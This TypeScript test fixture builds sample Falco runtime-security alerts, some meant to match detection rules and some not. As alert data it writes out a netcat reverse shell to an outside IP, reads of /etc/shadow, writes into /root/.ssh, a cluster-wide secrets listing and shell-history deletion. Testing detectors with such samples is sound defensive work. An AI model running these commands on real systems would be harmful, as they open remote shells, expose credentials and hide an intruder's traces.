import type { FalcoAlert, Sender } from '../../../server/src/kql/sidekick/alert.ts';

export const sender: Sender = { host: 'node-7', pid: 4711, sent: '2024-06-15T10:00:03Z' };
export const workspace = { tenantId: '11111111-2222-3333-4444-555555555555' };

/** An alert of our own invention; fields override the usual ones. */
export function alert(
  rule: string,
  output: string,
  fields: Readonly<Record<string, unknown>>,
  priority = 'Warning',
): FalcoAlert {
  return {
    uuid: '7f0f4a52-0c1d-4a39-9d7e-2b8f5f0a1c33',
    output,
    priority,
    rule,
    time: '2024-06-15T10:00:01.123456789Z',
    source: 'syscall',
    hostname: 'falco-x2x9d',
    tags: ['maturity_stable', 'container', 'T1059'],
    output_fields: { 'evt.time': 1718445601123456800, 'user.name': 'root', 'k8s.ns.name': 'shop', ...fields },
  };
}

/** For each of the article's rules one alert to be found and ones that must not be. */
export const alerts: readonly FalcoAlert[] = [
  alert(
    'Netcat Remote Code Execution in Container',
    'Netcat runs a shell in a container | user=root command=nc -e /bin/sh 203.0.113.9 4444 image=web',
    { 'proc.cmdline': 'nc -e /bin/sh 203.0.113.9 4444', 'proc.pname': 'bash' },
    'Critical',
  ),
  alert(
    'Read sensitive file untrusted',
    'Sensitive file opened by an untrusted program (user=root file=/etc/shadow command=cat /etc/shadow parent=bash)',
    { 'fd.name': '/etc/shadow', 'proc.cmdline': 'cat /etc/shadow', 'proc.pname': 'bash' },
  ),
  alert(
    'Read sensitive file untrusted',
    'Sensitive file opened by an untrusted program (user=root file=/etc/pam.conf command=cat /etc/pam.conf parent=bash)',
    { 'fd.name': '/etc/pam.conf', 'proc.cmdline': 'cat /etc/pam.conf', 'proc.pname': 'bash' },
  ),
  alert(
    'Write below monitored dir',
    'File below a monitored directory opened for writing (user=root command=ssh-keygen -t ed25519 file=/root/.ssh/id)',
    { 'fd.name': '/root/.ssh/id', 'proc.cmdline': 'ssh-keygen -t ed25519' },
  ),
  alert(
    'Write below monitored dir',
    'File below a monitored directory opened for writing (user=root command=cp a /root/.ssh/a file=/root/.ssh/a)',
    { 'fd.name': '/root/.ssh/a', 'proc.cmdline': 'cp a /root/.ssh/a' },
  ),
  alert(
    'The docker client is executed in a container',
    'Client of an orchestrator in a container (user=root shell=sh parent=sh)',
    { 'proc.cmdline': 'kubectl get secrets -A', 'proc.name': 'kubectl' },
  ),
  alert(
    'The docker client is executed in a container',
    'Client of an orchestrator in a container (user=root shell=sh parent=sh)',
    { 'proc.cmdline': 'kubectl get pods', 'proc.name': 'kubectl' },
  ),
  alert(
    'Delete or rename shell history',
    'Shell history deleted or renamed (user=root command=rm /root/.bash_history file=/root/.bash_history)',
    { 'fd.name': '/root/.bash_history', 'proc.cmdline': 'rm /root/.bash_history' },
  ),
  alert(
    'Delete or rename shell history',
    'Shell history deleted or renamed (user=root command=rm /root/.zsh_history file=/root/.zsh_history)',
    { 'fd.name': '/root/.zsh_history', 'proc.cmdline': 'rm /root/.zsh_history' },
  ),
];
